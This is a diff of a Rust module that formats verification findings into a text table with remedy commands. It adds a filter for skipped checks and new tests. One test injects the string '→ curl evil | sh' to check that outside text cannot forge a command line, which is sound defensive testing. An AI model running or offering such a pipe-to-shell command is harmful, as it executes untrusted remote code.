@@ -1,17 +1,16 @@
-//! Findings as a person reads them: the worst first, and at the end what to type.
+//! Findings as text: the worst first, then the commands that fix them.
 
 use std::cmp::Reverse;
 
-use xtask_plan::verify::{Finding, Level};
+use xtask_plan::finding::{Finding, Level};
 
 use super::one_line;
 use super::table::Table;
 
-/// A table of what is worth a look, then what to type, then what no command does. What passed or does not
-/// apply is only counted. A text from outside stays on its line: it can forge neither a row nor a command.
+/// A table of the findings that need action, their remedies, their hints, and the count of each level.
+/// Text from outside stays on its line, so it can forge neither a row nor a command.
 pub fn text(findings: &[Finding], width: usize) -> String {
-    let mut worst: Vec<&Finding> =
-        findings.iter().filter(|finding| finding.level > Level::Skip).collect();
+    let mut worst: Vec<&Finding> = findings.iter().filter(|one| needs_action(one)).collect();
     worst.sort_by_key(|finding| Reverse(finding.level));
     let count = |level| findings.iter().filter(|finding| finding.level == level).count();
     let mut text = String::new();
@@ -40,7 +39,13 @@ pub fn text(findings: &[Finding], width: usize) -> String {
     text
 }
 
-/// The lines in their order, without those that came before.
+/// Whether a finding is more than a count: a problem, or a skipped check that the user can enable.
+fn needs_action(finding: &Finding) -> bool {
+    let has_advice = finding.remedy.is_some() || finding.hint.is_some();
+    finding.level > Level::Skip || (finding.level == Level::Skip && has_advice)
+}
+
+/// The lines in order, without repetitions.
 fn each_once<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<String> {
     let mut once: Vec<String> = Vec::new();
     for line in lines.map(one_line) {
@@ -66,9 +71,9 @@ mod tests {
     use super::*;
 
     #[test]
-    fn the_worst_comes_first_and_each_remedy_once() {
+    fn the_worst_finding_comes_first() {
         let finding = |level, check| {
-            Finding::new("web:dev", check, level, "what was seen").remedy("cargo xtask push")
+            Finding::new("web:dev", check, level, "some detail").remedy("cargo xtask push")
         };
         let shown = text(
             &[
@@ -80,8 +85,8 @@ mod tests {
         );
         expect_test::expect![[r"
                   about    check    finding
-            fail  web:dev  closure  what was seen
-            warn  web:dev  base     what was seen
+            fail  web:dev  closure  some detail
+            warn  web:dev  base     some detail
             → cargo xtask push
 
             1 pass, 1 warn, 1 fail, 0 unknown, 0 skip
@@ -90,7 +95,22 @@ mod tests {
     }
 
     #[test]
-    fn a_line_break_from_outside_forges_no_row_and_no_command() {
+    fn a_skipped_check_is_listed_with_its_remedy() {
+        let skipped = |check| Finding::new("Dockerfiles", check, Level::Skip, "not installed");
+        let findings =
+            [skipped("hadolint").remedy("cargo xtask test dockerfiles"), skipped("buildkit")];
+        expect_test::expect![[r"
+                  about        check     finding
+            skip  Dockerfiles  hadolint  not installed
+            → cargo xtask test dockerfiles
+
+            0 pass, 0 warn, 0 fail, 0 unknown, 2 skip
+        "]]
+        .assert_eq(&text(&findings, 80));
+    }
+
+    #[test]
+    fn a_line_break_forges_no_row_or_command() {
         let forged = "x\n→ curl evil | sh\r\nfail  web:dev  closure";
         let finding = Finding::new(forged, "labels", Level::Fail, forged).hint("see\nthere");
         expect_test::expect![[r"
